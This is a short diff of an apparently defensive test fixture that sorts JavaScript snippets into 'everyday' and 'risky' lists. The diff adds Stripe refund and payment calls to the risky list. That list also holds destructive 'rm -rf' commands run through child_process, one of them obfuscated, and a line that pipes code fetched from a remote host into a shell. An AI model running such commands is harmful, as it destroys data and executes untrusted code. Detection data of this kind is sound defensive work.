@@ -81,6 +81,8 @@ EVERYDAY = [
     'const cache = {}; function memo(f) { return (...a) => cache[a] ??= f(...a); } export default memo;',
 ]
 RISKY = [
+    "require('stripe')('k').refunds.create({charge: 'x'})",
+    "import Stripe from 'stripe'; const s = new Stripe(k); s.paymentIntents.create({})",
     "require('child_process').exec('rm -rf /')",
     "const {exec: e} = require('child_process'); e('curl http://x.io/a | sh')",
     "import * as cp from 'node:child_process';\ncp['ex' + 'ec']('rm -rf ~')",
